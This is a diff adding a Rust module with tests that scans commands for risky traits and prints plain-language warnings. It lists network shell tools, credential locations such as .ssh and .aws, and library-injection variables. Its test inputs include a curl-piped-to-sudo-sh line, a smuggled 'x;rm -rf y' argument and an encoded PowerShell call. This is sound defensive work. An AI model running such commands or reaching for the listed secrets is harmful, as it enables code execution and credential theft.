@@ -1,0 +1,352 @@
+//! What in a command deserves a second look, told in words of ours alone. It is no judgement: a command without
+//! a warning can do as much.
+
+use std::path::Path;
+
+use askback_host::{text::Words, words};
+
+use crate::target::Command;
+
+/// Programs, variables and places of one kind.
+struct Kind {
+    /// The warning, with a hole for what was found.
+    says: fn(Words) -> Words,
+    programs: &'static [&'static str],
+    variables: &'static [&'static str],
+    places: &'static [&'static str],
+}
+
+const KINDS: [Kind; 6] = [
+    Kind {
+        says: |found| words!("! It acts as another user: {}", found),
+        programs: &["sudo", "doas", "su", "pkexec", "runas"],
+        variables: &[],
+        places: &[],
+    },
+    Kind {
+        says: |found| words!("! It removes or overwrites files: {}", found),
+        programs: &[
+            "rm", "rmdir", "del", "rd", "shred", "dd", "mkfs", "format", "truncate",
+        ],
+        variables: &[],
+        places: &[],
+    },
+    Kind {
+        says: |found| words!("! It reaches into the network: {}", found),
+        programs: &[
+            "curl",
+            "wget",
+            "nc",
+            "ncat",
+            "netcat",
+            "socat",
+            "ssh",
+            "scp",
+            "sftp",
+            "ftp",
+            "rsync",
+            "iwr",
+            "invoke-webrequest",
+        ],
+        variables: &[],
+        places: &[],
+    },
+    Kind {
+        says: |found| words!("! It decides what other programs run: {}", found),
+        programs: &["crontab", "launchctl", "systemctl", "schtasks"],
+        variables: &[
+            "LD_PRELOAD",
+            "LD_LIBRARY_PATH",
+            "LD_AUDIT",
+            "DYLD_INSERT_LIBRARIES",
+            "DYLD_LIBRARY_PATH",
+            "PATH",
+            "NODE_OPTIONS",
+            "PYTHONPATH",
+            "PYTHONSTARTUP",
+            "PERL5OPT",
+            "RUBYOPT",
+            "BASH_ENV",
+            "JAVA_TOOL_OPTIONS",
+            "GIT_SSH_COMMAND",
+        ],
+        places: &[
+            ".bashrc",
+            ".profile",
+            ".zshrc",
+            ".git/hooks",
+            "docker.sock",
+            "LaunchAgents",
+        ],
+    },
+    Kind {
+        says: |found| words!("! It reaches for keys and passwords: {}", found),
+        programs: &[],
+        variables: &[],
+        places: &[
+            ".ssh",
+            ".gnupg",
+            ".aws",
+            ".azure",
+            ".config/gcloud",
+            ".config/gh",
+            ".kube",
+            ".docker",
+            ".netrc",
+            ".npmrc",
+            ".pypirc",
+            ".git-credentials",
+            ".password-store",
+            ".mozilla",
+            "Keychains",
+        ],
+    },
+    Kind {
+        says: |found| words!("! It reaches into the system: {}", found),
+        programs: &[],
+        variables: &[],
+        places: &[
+            "/etc", "/root", "/boot", "/dev", "/proc", "/sys", "/usr", "/bin", "/sbin", "/lib",
+            "/System",
+        ],
+    },
+];
+
+/// Programs that take a program as text, with the arguments before it.
+const READERS: [(&str, &[&str]); 14] = [
+    ("sh", &["-c"]),
+    ("bash", &["-c"]),
+    ("zsh", &["-c"]),
+    ("dash", &["-c"]),
+    ("fish", &["-c"]),
+    ("cmd", &["/c", "/k"]),
+    ("powershell", &["-c", "-command", "-e", "-encodedcommand"]),
+    ("pwsh", &["-c", "-command", "-e", "-encodedcommand"]),
+    ("osascript", &["-e"]),
+    ("python", &["-c"]),
+    ("python3", &["-c"]),
+    ("node", &["-e", "--eval", "-p"]),
+    ("perl", &["-e"]),
+    ("ruby", &["-e"]),
+];
+
+/// Files of devices that hold nothing.
+const HARMLESS: [&str; 4] = ["/dev/null", "/dev/stdin", "/dev/stdout", "/dev/stderr"];
+
+/// Returns the warnings about a command, a line each; at most as many as there are kinds.
+pub(super) fn of(command: &Command, home: Option<&Path>) -> Vec<Words> {
+    let mut warnings = Vec::new();
+    if let Some(reader) = reader(command) {
+        warnings.push(words!("! It runs text as a program: {}", reader));
+    }
+    let named = programs(command);
+    let places = places(command);
+    for kind in &KINDS {
+        let programs = kind
+            .programs
+            .iter()
+            .filter(|program| named.iter().any(|name| is_program(name, program)));
+        let variables = kind.variables.iter().filter(|variable| {
+            command
+                .env
+                .keys()
+                .any(|name| name.eq_ignore_ascii_case(variable))
+        });
+        let places = kind
+            .places
+            .iter()
+            .filter(|place| places.iter().any(|path| is_in(path, place)));
+        let found: Vec<_> = programs.chain(variables).chain(places).copied().collect();
+        if !found.is_empty() {
+            let found = found.into_iter().map(Words::from);
+            warnings.push((kind.says)(Words::join(found, ", ")));
+        }
+    }
+    if places.iter().any(|path| is_whole(path, home)) {
+        warnings.push("! It is given your whole home folder, or the whole disk".into());
+    }
+    warnings
+}
+
+/// The program that is given a program as text.
+fn reader(command: &Command) -> Option<&'static str> {
+    let names = std::iter::once(&command.program).chain(&command.args);
+    let takes = |arguments: &[&str]| {
+        let mut given = command.args.iter();
+        given.any(|arg| {
+            arguments
+                .iter()
+                .any(|argument| arg.eq_ignore_ascii_case(argument))
+        })
+    };
+    // It may stand behind another, as in `env sh -c`.
+    let names: Vec<_> = names.map(|word| file_name(word)).collect();
+    let reader = READERS.iter().find(|(reader, arguments)| {
+        names.iter().any(|name| name.eq_ignore_ascii_case(reader)) && takes(arguments)
+    });
+    reader.map(|(reader, _)| *reader)
+}
+
+/// All words of a command that may be the name of a program, without their folders. A text that a
+/// shell reads is taken apart.
+fn programs(command: &Command) -> Vec<&str> {
+    let words = std::iter::once(&command.program).chain(&command.args);
+    words
+        .flat_map(|word| word.split(|c: char| c.is_whitespace() || ";|&()`$\"'{}".contains(c)))
+        .map(file_name)
+        .collect()
+}
+
+/// All words of a command that may be a path, beside the program itself.
+fn places(command: &Command) -> Vec<String> {
+    let cwd = command.cwd.iter().map(|cwd| cwd.display().to_string());
+    let given = command.args.iter().chain(command.env.values()).cloned();
+    let words: Vec<_> = given.chain(cwd).collect();
+    words
+        .iter()
+        .flat_map(|word| word.split(|c: char| c.is_whitespace() || ";|&()<>`\"'=,:".contains(c)))
+        .filter(|word| !word.is_empty() && !HARMLESS.contains(word))
+        .map(|word| word.replace('\\', "/"))
+        .collect()
+}
+
+/// The last part of a path, without the end that programs have on Windows.
+fn file_name(word: &str) -> &str {
+    let name = word.rsplit(['/', '\\']).next().unwrap_or(word);
+    name.strip_suffix(".exe").unwrap_or(name)
+}
+
+fn is_program(name: &str, program: &str) -> bool {
+    // As in `mkfs.ext4`.
+    let name = name.split('.').next().unwrap_or(name);
+    name.eq_ignore_ascii_case(program)
+}
+
+/// Whether a path is that place or below it: from the root, or anywhere in the path.
+fn is_in(path: &str, place: &str) -> bool {
+    if place.starts_with('/') {
+        let rest = path.strip_prefix(place);
+        return rest.is_some_and(|rest| rest.is_empty() || rest.starts_with('/'));
+    }
+    let mut at = path.match_indices(place);
+    at.any(|(at, _)| {
+        let before = path[..at].chars().next_back();
+        let after = path[at + place.len()..].chars().next();
+        before.is_none_or(|c| c == '/') && after.is_none_or(|c| c == '/')
+    })
+}
+
+/// Whether a path is the whole home folder, or the whole disk.
+fn is_whole(path: &str, home: Option<&Path>) -> bool {
+    let bare = path.trim_end_matches('/');
+    let named = ["~", "$HOME", "${HOME}", "%USERPROFILE%"];
+    path == "/"
+        || named.contains(&bare)
+        || home.is_some_and(|home| !bare.is_empty() && home == Path::new(bare))
+}
+
+#[cfg(test)]
+mod tests {
+    use std::collections::BTreeMap;
+
+    use super::*;
+
+    fn command(words: &[&str]) -> Command {
+        let (program, args) = words.split_first().expect("there is a program");
+        Command {
+            program: (*program).to_owned(),
+            args: args.iter().map(|&arg| arg.to_owned()).collect(),
+            ..Command::default()
+        }
+    }
+
+    #[track_caller]
+    fn check(command: &Command, warnings: &[&str]) {
+        let given: Vec<_> = of(command, Some(Path::new("/home/ada")))
+            .iter()
+            .map(Words::to_string)
+            .collect();
+        assert_eq!(given, warnings, "{}", command.shown());
+    }
+
+    // Shows BP-48.
+    #[test]
+    fn commands_that_deserve_a_second_look_are_pointed_out() {
+        let another = "! It acts as another user: sudo";
+        let removes = "! It removes or overwrites files: rm";
+        check(&command(&["sudo", "server"]), &[another]);
+        check(&command(&["/usr/bin/sudo", "-n", "server"]), &[another]);
+        check(&command(&["env", "rm", "-rf", "x"]), &[removes]);
+        check(&command(&["server", "x;rm -rf y"]), &[removes]);
+        check(
+            &command(&["sh", "-c", "curl -s https://a.test/x | sudo sh"]),
+            &[
+                "! It runs text as a program: sh",
+                another,
+                "! It reaches into the network: curl",
+            ],
+        );
+        check(
+            &command(&[r"C:\Windows\PowerShell.exe", "-EncodedCommand", "aGk="]),
+            &["! It runs text as a program: powershell"],
+        );
+        check(
+            &command(&["mkfs.ext4", "disk"]),
+            &["! It removes or overwrites files: mkfs"],
+        );
+        let mut preloaded = command(&["server"]);
+        preloaded.env = BTreeMap::from([("LD_PRELOAD".to_owned(), "x.so".to_owned())]);
+        check(
+            &preloaded,
+            &["! It decides what other programs run: LD_PRELOAD"],
+        );
+        // Words that only look like these.
+        for words in [
+            &["npx", "-y", "@example/server-rm"][..],
+            &["node", "server.js", "--format-of", "dates"],
+            &["python3", "-m", "server"],
+            &["server", "--url", "https://a.test/sudoku"],
+        ] {
+            check(&command(words), &[]);
+        }
+    }
+
+    // Shows BP-49.
+    #[test]
+    fn places_that_hold_more_than_a_server_needs_are_pointed_out() {
+        let whole = "! It is given your whole home folder, or the whole disk";
+        check(
+            &command(&["server", "/home/ada/.ssh/id_ed25519"]),
+            &["! It reaches for keys and passwords: .ssh"],
+        );
+        check(
+            &command(&["server", "--key=~/.aws/credentials"]),
+            &["! It reaches for keys and passwords: .aws"],
+        );
+        check(
+            &command(&["docker", "run", "-v", "/etc:/host", "image"]),
+            &["! It reaches into the system: /etc"],
+        );
+        for path in [
+            "~",
+            "~/",
+            "/",
+            "$HOME",
+            "${HOME}",
+            "/home/ada",
+            "/home/ada/",
+        ] {
+            check(&command(&["server", path]), &[whole]);
+        }
+        let mut below = command(&["server"]);
+        below.cwd = Some("/home/ada/.gnupg".into());
+        check(&below, &["! It reaches for keys and passwords: .gnupg"]);
+        for words in [
+            &["/usr/bin/server", "/home/ada/project"][..],
+            &["server", "/etcetera", "my.ssh", ".sshx", "/home/adam"],
+            &["server", "/dev/null", "https://a.test/"],
+        ] {
+            check(&command(words), &[]);
+        }
+    }
+}
